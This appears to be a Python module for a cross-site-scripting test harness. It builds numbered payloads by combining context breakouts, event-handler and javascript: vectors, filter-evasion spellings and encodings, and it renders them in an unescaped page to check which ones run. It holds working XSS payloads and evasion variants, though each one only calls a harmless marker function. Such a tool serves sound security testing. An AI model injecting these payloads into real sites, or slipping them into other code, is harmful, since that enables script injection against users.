"""Hostile text: ways out of where a text stands, times what runs there, times how it is spelt. Each calls ``ran`` with its number."""

from collections.abc import Callable, Iterable
from itertools import product
from urllib.parse import quote

FIRST = 70_000
"""The number of the first payload: five digits that stand in no text by chance."""
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--></style>", "]]>", '"};', "</option></select></svg>")
"""Out of a text, an attribute, an element that holds plain text, a comment, CDATA, JSON in a script, and where tags are dropped."""
IN_PLACE = (
    '" autofocus tabindex=1 onfocus={0} x="',
    "' onanimationstart={0} style='animation:x 1s",
    "`-{0}-`",
    "{{{{ {0} }}}}",
    "';{0};//",
)
"""Within an attribute, a template of some library, a string of a script."""
VECTORS = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<img src=x onerror=parent.{0}>'></iframe>",
    "<iframe src=javascript:parent.{0}></iframe>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<body onpageshow={0}>",
    "<object data=x onerror={0}>",
    "<math><mtext><style><!--</style><img src=x onerror={0}>",
    "<template shadowrootmode=open><img src=x onerror={0}></template>",
    "<a href=javascript:{0}>read</a>",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "\njavascript:",
    "javascript://x%0a",
    "data:text/html,<script>parent.",
)
"""Beginnings of addresses that run what follows."""
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
)
"""As it is; written for HTML, for an address, and in characters that folding turns into the others: what is undone once too often runs."""


def call(number: int) -> str:
    """What a payload runs: every fourth opens a dialog."""
    return f"alert({number})" if number % 4 == 3 else f"ran({number})"


def payloads() -> list[str]:
    """All of them, in the order of their numbers."""
    shapes = [(way + vector, spelt) for way, vector, spelt in product(WAYS_OUT, VECTORS, SPELLINGS)]
    shapes += [(shape, SPELLINGS[0]) for shape in (*IN_PLACE, *(scheme + "{0}" for scheme in SCHEMES))]
    return [spelt(_with_call(shape, FIRST + number)) for number, (shape, spelt) in enumerate(shapes)]


def _with_call(shape: str, number: int) -> str:
    """``str.format`` would stumble over the braces of a way out."""
    return shape.replace("{{", "{").replace("}}", "}").replace("{0}", call(number))


def packed(texts: Iterable[str], longest: int) -> list[str]:
    """The texts, one after the other, in as few lines as no line is longer than ``longest``."""
    lines = [""]
    for text in texts:
        if lines[-1] and len(lines[-1]) + 1 + len(text) > longest:
            lines.append("")
        lines[-1] = f"{lines[-1]} {text}" if lines[-1] else text
    return lines


def raw_page(texts: Iterable[str]) -> str:
    """A page that escapes nothing, to see that what watches sees."""
    return "<!doctype html><title>Raw</title>" + "".join(f"<div>{text}</div>" for text in texts)
